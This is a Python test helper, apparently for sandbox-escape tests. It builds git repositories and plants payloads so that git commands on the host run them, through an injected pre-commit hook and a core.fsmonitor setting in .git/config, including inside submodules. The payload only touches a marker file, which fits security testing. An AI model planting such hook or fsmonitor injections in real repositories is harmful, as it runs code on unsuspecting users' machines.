# SPDX-License-Identifier: Apache-2.0
"""A git repository of the caller's, and ways to make git on the host run a payload from it."""

from __future__ import annotations

import os
import time
from collections.abc import Callable
from pathlib import Path

from lib.identity import Identity

EMPTY_BLOB = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391"
AS_A = "git -c user.name=a -c user.email=a@b"

# Writes an index that git would not write: "forge-index.py KIND", in a repository.
FORGE = Path(__file__).resolve().parents[1] / "escape" / "forge-index.py"


class Repository:
    """A workspace that is a git repository of the identity, and a record of whether a payload ran in it."""

    def __init__(self, path: Path, identity: Identity) -> None:
        self.path, self.identity = path, identity
        self.marker = path.parent / "pwned"

    def git(self, *args: str, cwd: Path | None = None) -> str:
        done = self.identity.run(
            ["git", "-c", "user.name=A", "-c", "user.email=a@example.org", *args], cwd=cwd or self.path
        )
        return done.stdout + done.stderr

    def init(self) -> Repository:
        self.git("-c", "init.defaultBranch=main", "init", "-q")
        (self.path / "file").write_text("text\n")
        self.identity.own(self.path / "file")
        self.git("add", "file")
        self.git("commit", "-q", "-m", "first")
        assert (self.path / ".git" / "config").exists()
        return self

    def enlarge(self) -> None:
        """Makes an index that holt does not read again while it is unchanged: a large one, 2 s old."""
        names = "".join(f"100644 {EMPTY_BLOB}\tmany/{i}\n" for i in range(1000))
        self.git("hash-object", "-w", "/dev/null")
        self.identity.run(["bash", "-c", f"git update-index --index-info <<'END'\n{names}END"], cwd=self.path).check_returncode()
        self.age_index()

    def age_index(self) -> os.stat_result:
        """Waits until the index, which is large, is old enough for that."""
        index = (self.path / ".git/index").stat()
        assert index.st_size > 65536
        time.sleep(max(0.0, index.st_ctime + 3.1 - time.time()))
        return index

    @property
    def payload(self) -> str:
        """A shell command that shows that it ran. git needs it to be one word without quotes."""
        return f"touch {self.marker}"

    def use(self, cwd: Path | None = None) -> bool:
        """Runs commands that a person would run next on the host. Returns whether one ran the payload."""
        for command in (["status"], ["diff"], ["commit", "--allow-empty", "-q", "-m", "next"], ["checkout", "-q", "."]):
            self.git(*command, cwd=cwd)
        return self.marker.exists()


HOOK = "printf '#!/bin/sh\\n{payload}\\n' >{path} && chmod +x {path}"
FSMONITOR = "[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = {payload}; false\\n"


def hook(repository: Repository, path: str = ".git/hooks/pre-commit") -> str:
    return HOOK.format(payload=repository.payload, path=path)


def config(repository: Repository, path: str, more: str = "") -> str:
    text = FSMONITOR.format(payload=repository.payload) + more
    return f"printf '{text}' >{path}"


# Makes the script with which a command attacks a repository.
Plant = Callable[[Repository], str]


def make(path: str = "sub", init: str = "git init -q") -> str:
    """A repository with a commit, so that it can be added."""
    return f"{init} {path}; (cd {path}; {AS_A} commit -q --allow-empty -m x)"


def evil(repository: Repository, path: str = "sub") -> str:
    """Makes the config of the repository at path run the payload."""
    return config(repository, f"{path}/.git/config")


def make_sparse(repository: Repository) -> None:
    for name in ("core.sparseCheckout", "core.sparseCheckoutCone"):
        repository.git("config", name, "true")


def with_submodule(repository: Repository, place: Path, nested: bool = False) -> Repository:
    """Creates the repository with a submodule at sub; if nested, that one has a submodule at sub/inner."""
    other = Repository(place / "other", repository.identity)
    repository.identity.run(["mkdir", other.path]).check_returncode()
    other.init()
    if nested:
        inner = Repository(place / "inner", repository.identity)
        repository.identity.run(["mkdir", inner.path]).check_returncode()
        inner.init()
        other.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(inner.path), "inner")
        other.git("commit", "-q", "-m", "inner")
    repository.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(other.path), "sub")
    repository.git("commit", "-q", "-m", "sub")
    repository.git("-c", "protocol.file.allow=always", "submodule", "update", "--init", "--recursive", "-q")
    assert (repository.path / "sub/inner/.git" if nested else repository.path / "sub/.git").is_file()
    return repository
